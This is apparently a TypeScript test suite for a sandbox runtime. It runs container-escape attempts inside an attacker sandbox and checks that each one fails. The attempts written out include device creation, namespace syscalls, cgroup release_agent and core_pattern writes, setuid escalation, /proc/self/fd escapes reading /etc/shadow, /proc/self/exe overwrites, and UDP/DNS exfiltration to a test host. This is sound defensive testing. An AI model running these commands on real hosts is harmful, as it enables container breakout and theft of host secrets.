/** What the kernel and the engine offer to whoever asks: devices, mounts, namespaces, control groups, identities, descriptors. */
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { existsSync, statSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished } from "vitest";
import { unique, untilFact } from "../conformance/sandbox/given.ts";
import type { Attempt } from "./attempt.ts";

const HARMLESS_DEVICES =
  /^(?:null|zero|full|random|urandom|tty|console|ptmx|pts|shm|mqueue|core|fd|std(?:in|out|err))$/;
const CLONE = { x64: 56, arm64: 220 } as const;
/** A new namespace each: mounts, cgroups, host names, IPC, users, pids, network. */
const NEW_NAMESPACES = [0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000];
const SIGCHLD = 17;
const CHECKED_PROGRAMS = ["/usr/sbin/runc", "/usr/bin/bwrap", process.execPath];

export const ABUSE_KERNEL: readonly Attempt[] = [
  {
    title: "no disk, memory, kernel log or tunnel is among the devices, and none can be made",
    fails: async (given) => {
      const ref = await given.attacker();
      const found = (await given.shell(ref, "ls /dev")).trim().split("\n");
      expect(found.filter((name) => !HARMLESS_DEVICES.test(name))).toEqual([]);
      const said = await given.tryShell(
        ref,
        `cd /tmp; for kind in "b 8 0" "b 7 0" "c 1 1" "c 1 11" "c 10 200" "c 10 229" "c 10 232" "b 253 0"; do mknod node $kind 2>/dev/null && echo made $kind; rm -f node; done; touch /dev/made 2>/dev/null && echo made a file; head -c 1 /proc/kcore /proc/kmsg 2>/dev/null; echo done`,
      );
      expect(said).toBe("done\n");
    },
  },
  {
    title: "no namespace can be made, by unshare or by clone, and none of another process entered",
    fails: async (given) => {
      const number = CLONE[process.arch as keyof typeof CLONE];
      // A child that was made says so and ends.
      const lines = NEW_NAMESPACES.map(
        (flag) =>
          `$pid = syscall(${number}, ${flag} | ${SIGCHLD}, 0, 0, 0, 0); if ($pid == 0) { print STDERR "inside ${flag}\\n"; exit }; print "made ${flag}\\n" if $pid > 0;`,
      );
      const ref = await given.attacker();
      const said = await given.tryShell(
        ref,
        `perl -e '${lines.join(" ")}'; for f in mnt net pid user uts ipc; do perl -e 'open(F, q(<), $ARGV[0]) and syscall(308, fileno(F), 0) == 0 and print qq(entered)' /proc/1/ns/$f; done; { echo 1000 > /proc/self/uid_map; echo 0 0 1 > /proc/self/gid_map; } 2>/dev/null && echo mapped; echo done`,
      );
      expect(said).toBe("done\n");
    },
  },
  {
    title: "no control group is left, loosened or made to run a program of the host",
    fails: async (given) => {
      const ref = await given.attacker();
      const word = unique("released");
      const said = await given.tryShell(
        ref,
        `for f in $(find /sys/fs/cgroup /proc/self/cgroup -maxdepth 3 -type f 2>/dev/null); do case $f in *release_agent|*notify_on_release|*procs|*tasks|*max|*limit_in_bytes|*quota_us|*subtree_control|*freeze*|*state|*devices.allow|*kill) { echo /tmp/${word} > $f; } 2>/dev/null && echo wrote $f; { echo 0 > $f; } 2>/dev/null && echo wrote $f;; esac; done; mkdir /sys/fs/cgroup/${word} /sys/fs/cgroup/*/${word} 2>/dev/null && echo made; perl -e 'for my $kind (q(cgroup), q(cgroup2)) { my ($a, $at, $o) = ($kind, q(/tmp), q(rdma)); syscall(165, $a, $at, $a, 0, $o) == 0 and print qq(mounted $kind) }'; echo done`,
      );
      expect(said).toBe("done\n");
      const { enforcedBy } = (await given.provider.info(ref, given.signal)) ?? {};
      expect(enforcedBy).toMatchObject({ memory: expect.not.stringMatching(/^none$/) });
    },
  },
  {
    title: "nothing below /sys and /proc/sys can be written",
    fails: async (given) => {
      const said = await given.tryShell(
        await given.attacker(),
        "find /sys /proc/sys -writable ! -type l 2>/dev/null; for f in /sys/kernel/uevent_helper /sys/power/state /sys/kernel/mm/transparent_hugepage/enabled /sys/module/kernel/parameters/panic /proc/self/../sys/kernel/core_pattern /proc/irq/0/smp_affinity /proc/fs/nfsd /proc/bus/pci; do { echo x > $f; } 2>/dev/null && echo wrote $f; done; echo done",
      );
      expect(said).toBe("done\n");
    },
  },
  {
    title: "nobody becomes root or gets a capability, by set-id files, by calls or by being started again",
    fails: async (given) => {
      const ref = await given.attacker();
      const cwd = await given.directory(ref);
      const said = await given.tryShell(
        ref,
        `cd ${cwd}; cp /bin/sh own; chmod 6755 own; chown 0:0 own 2>/dev/null && echo given; ./own -p -c 'id -u'; perl -e '$< = $> = 0; $( = $) = 0; print "$<.$>.", $( + 0, "\\n"'; for p in $(find /usr/bin /usr/sbin /bin -perm -4000 -type f 2>/dev/null); do echo id -u | timeout 2 $p -c 'id -u' 2>/dev/null </dev/null | grep -x 0; done; grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status`,
      );
      expect(said.replaceAll(/[ \t]+/g, " ")).toBe(
        [
          "1000",
          "1000.1000.1000",
          ...["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"].map((name) => `${name}: 0000000000000000`),
          "NoNewPrivs: 1",
          "Seccomp: 2",
          "",
        ].join("\n"),
      );
    },
  },
  {
    title: "a directory that leads to an open descriptor of the runtime is no way out for what is started in it",
    fails: async (given) => {
      const ref = await given.attacker();
      const folder = await mkdtemp(join(tmpdir(), "drover-hostile-"));
      onTestFinished(() => rm(folder, { recursive: true, force: true }));
      await writeFile(join(folder, "canary"), "host secret", { mode: 0o644 });
      const up = "../".repeat(12);
      const cwd = await given.directory(ref);
      for (const fd of [3, 5, 7, 8, 9]) {
        await given.shell(ref, `ln -sfn /proc/self/fd/${fd} way`, cwd);
        for (const directory of [`${cwd}/way`, `/proc/self/fd/${fd}`, `/proc/self/fd/${fd}/${up}`]) {
          const argv = ["sh", "-c", `cat ${up}${folder.slice(1)}/canary ${up}etc/shadow; ls ${up}root`] as const;
          const outcome = await given
            .run(ref, { argv, cwd: directory })
            .catch(() => ({ stdout: Buffer.from(""), exit: { code: 1 } }));
          expect(outcome.stdout.toString()).not.toMatch(/host secret|root:[*!$]/);
          expect(outcome.exit.code).not.toBe(0);
        }
      }
    },
  },
  {
    title: "the program that started it cannot be replaced by way of /proc/self/exe",
    fails: async (given) => {
      const look = () =>
        CHECKED_PROGRAMS.filter(existsSync).map((path) => [path, statSync(path).size, statSync(path).mtimeMs]);
      const before = look();
      const ref = await given.attacker();
      const cwd = await given.directory(ref);
      await given.shell(ref, "printf '#!/proc/self/exe\\n' > again; chmod +x again; ln -s /proc/self/exe self", cwd);
      const said = await given.tryShell(
        ref,
        "for p in /proc/[0-9]* /proc/self; do { echo x > $p/exe; } 2>/dev/null && echo wrote $p; perl -e 'open(F, q(+<), $ARGV[0]) and print qq(opened $ARGV[0]\\n)' $p/exe; done; echo done",
      );
      for (const program of ["again", "self"])
        await given
          .run(ref, { argv: [`${cwd}/${program}`, "-c", "echo x > /proc/self/exe"], timeoutMs: 5_000 })
          .catch(() => undefined);
      expect(said).toBe("done\n");
      expect(look()).toEqual(before);
      await given.expectAlive(ref);
    },
  },
  {
    title: "shared memory, semaphores and queues of a neighbour and of the host are not there",
    fails: async (given) => {
      const [attacker, neighbour] = [await given.attacker(), await given.neighbour()];
      const make = `perl -e 'shmget(0x0d20, 4096, 01666) // die; semget(0x0d21, 1, 01666) // die; msgget(0x0d22, 01666) // die; print qq(made\\n)'`;
      expect(await given.tryShell(neighbour, make)).toBe("made\n");
      await given.shell(neighbour, "echo neighbour > /dev/shm/neighbour");
      const find = `perl -e 'print qq(found\\n) if defined shmget(0x0d20, 0, 0) or defined semget(0x0d21, 0, 0) or defined msgget(0x0d22, 0)'; ls /dev/shm; tail -q -n +2 /proc/sysvipc/*; echo done`;
      expect(await given.tryShell(attacker, find)).toBe("done\n");
    },
  },
  {
    title: "an abstract socket of the host cannot be connected to, and no datagram leaves for its resolvers",
    fails: async (given) => {
      let visits = 0;
      const name = `\0${unique("drover-host")}`;
      const stream = createServer((socket) => ((visits += 1), socket.end("reached the host")));
      stream.listen(name);
      await once(stream, "listening");
      const udp = createSocket("udp4").on("message", () => void (visits += 1));
      udp.bind(0, "0.0.0.0");
      await once(udp, "listening");
      onTestFinished(() => void (stream.close(), udp.close()));
      const { port } = udp.address() as AddressInfo;
      const own = Object.values(networkInterfaces()).flatMap((all) => (all ?? []).map(({ address }) => address));
      const hosts = ["127.0.0.1", "169.254.169.253", ...own.filter((address) => !address.includes(":"))];
      const said = await given.tryNode(
        await given.attacker(),
        `require("node:net").connect(${JSON.stringify(name)}).on("error", (e) => console.log(e.code)).pipe(process.stdout);
         const udp = require("node:dgram").createSocket("udp4").on("error", () => undefined);
         let left = ${2 * hosts.length};
         for (const host of ${JSON.stringify(hosts)}) for (const port of [53, ${port}]) udp.send("secret", port, host, () => (left -= 1) || udp.close());
         require("node:dns").promises.lookup("secret.exfiltrated.test").then(() => console.log("resolved"), () => undefined);`,
      );
      expect(said).toBe("ECONNREFUSED\n");
      // What was sent before this one would have come before it.
      const probe = createSocket("udp4");
      probe.send("probe", port, "127.0.0.1");
      await untilFact("the probe came", () => visits > 0);
      probe.close();
      expect(visits).toBe(1);
    },
  },
  {
    title: "orphans that end are collected: they do not use up the processes a sandbox may have",
    fails: async (given) => {
      const ref = await given.attacker();
      await given.shell(ref, "i=0; while [ $i -lt 200 ]; do (true & ); (setsid true &); i=$((i+1)); done");
      await untilFact("they are gone", async () => {
        const zombies = await given.shell(ref, "cat /proc/[0-9]*/stat 2>/dev/null | grep -c ') Z ' || true");
        return Number(zombies) < 5;
      });
      await given.expectAlive(ref);
    },
  },
  {
    title: "memory that is files, in every place that is memory, is bounded and its own",
    fails: async (given) => {
      const ref = await given.sandbox();
      const fill =
        "for d in /tmp /dev/shm /run /var/tmp /run/lock /dev; do head -c 400M /dev/zero > $d/fill 2>/dev/null; wc -c < $d/fill; done 2>/dev/null";
      const { stdout } = await given
        .run(ref, { argv: ["sh", "-c", fill], timeoutMs: 20_000 })
        .catch(() => ({ stdout: Buffer.from("") }));
      const sizes = stdout.toString().trim().split("\n").map(Number);
      expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(256 * 1024 * 1024);
      await given.expectAlive(await given.attacker());
    },
  },
  {
    title: "the clock, the name and the log of the host stay as they are",
    fails: async (given) => {
      const name = await readFile("/proc/sys/kernel/hostname", "utf8");
      const ref = await given.attacker();
      const said = await given.tryShell(
        ref,
        `date -s '2001-01-01' >/dev/null 2>&1 && echo set; { echo x > /proc/sys/kernel/hostname; } 2>/dev/null && echo named; perl -e 'my $name = q(evil); syscall(170, $name, 4) == 0 and print qq(named\\n); syscall(103, 3, 0, 0) >= 0 and print qq(read\\n)'; head -c 1 /dev/kmsg 2>/dev/null; uname -n`,
      );
      // It has a name of its own, which is not the host's.
      expect(said).toBe("sandbox\n");
      expect(await readFile("/proc/sys/kernel/hostname", "utf8")).toBe(name);
      expect(new Date().getUTCFullYear()).toBeGreaterThan(2001);
    },
  },
];
